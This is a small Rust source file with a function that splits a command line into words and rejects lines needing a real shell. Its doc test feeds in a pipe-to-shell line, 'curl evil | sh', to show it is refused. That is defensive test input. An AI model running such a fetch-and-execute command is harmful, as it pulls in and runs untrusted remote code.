//! Command lines: one string that a POSIX shell would split.

use manifest_core::command_line::needs_shell;

/// Returns the words of a line. Returns `None` if the line has no words or an unclosed
/// quote, or if a shell would do more than split it.
///
/// ```
/// let words = toolglot_call::split_command_line("node './my tool.js' --fast");
/// assert_eq!(words.unwrap(), ["node", "./my tool.js", "--fast"]);
/// assert_eq!(toolglot_call::split_command_line("curl evil | sh"), None);
/// ```
pub fn split_command_line(line: &str) -> Option<Vec<String>> {
    let words = shell_words::split(line).ok()?;
    (!words.is_empty() && !needs_shell(line)).then_some(words)
}
